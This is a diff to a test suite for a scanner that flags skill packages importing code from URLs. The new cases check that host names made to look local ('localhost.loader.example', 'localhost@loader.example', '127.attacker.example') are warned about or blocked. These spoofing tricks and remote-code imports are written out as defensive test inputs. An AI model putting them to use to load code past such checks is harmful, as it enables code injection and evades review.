@@ -158,6 +158,14 @@ describe('modules loaded from a URL', () => {
   it('is quiet on versions pinned on registries that cannot change them, and on local servers', () => {
     expect(rules({ 'main.ts': 'import { parse } from "https://deno.land/std@0.224.0/flags/mod.ts";\nimport { join } from "https://deno.land/std@0.224.0/path/mod.ts";\nimport { Application } from "https://deno.land/x/oak@v12.6.1/mod.ts";\nimport { z } from "https://esm.sh/zod@3.23.8";\nimport lodash from "https://cdn.jsdelivr.net/npm/lodash-es@4.17.21/lodash.js";\nimport * as x from "https://raw.githubusercontent.com/acme-dev/kit/0123456789abcdef0123456789abcdef01234567/mod.ts";\nconsole.log(parse(Deno.args), join("a", "b"), Application, z, lodash, x);\n' })).toEqual([]);
     expect(rules({ 'main.ts': 'import { dev } from "http://localhost:8000/dev.ts";\ndev();\n', 'SKILL.md': '---\nname: x\ndescription: y\n---\nRun `deno run -A main.ts` or `bun run build`, see https://deno.land/manual.\n' })).toEqual([]);
+    // Only by the host name: a public host that starts like a local one, or user info before one, is not local.
+    expect(rules({ 'main.ts': 'import { a } from "https://localhost.loader.example/a.ts";\nimport { b } from "https://localhost@loader.example/b.ts";\nimport { c } from "http://10.loader.example/c.ts";\nimport { d } from "http://127.attacker.example/d.ts";\nconsole.log(a, b, c, d);\n' })).toEqual([
+      'warn:exec.remote-module@main.ts:1',
+      'warn:exec.remote-module@main.ts:2',
+      'block:exec.raw-ip-module@main.ts:3',
+      'block:exec.raw-ip-module@main.ts:4',
+    ]);
+    expect(rules({ 'main.ts': 'import { a } from "http://192.168.1.5:8000/a.ts";\nimport { b } from "http://[::1]:8000/b.ts";\nconsole.log(a, b);\n' })).toEqual([]);
     // A URL among the arguments of a script the skill ships is the script's input, not a program.
     expect(rules({ 'SKILL.md': '---\nname: x\ndescription: y\n---\n```bash\nbun run scripts/buy.ts --url "https://shop.example-store.test/item/1" --qty 2\ndeno run --allow-net=api.example-store.test main.ts https://shop.example-store.test/item/2\n```\n' })).toEqual([]);
     // An import of a local module, and a URL in a string that is not an import.
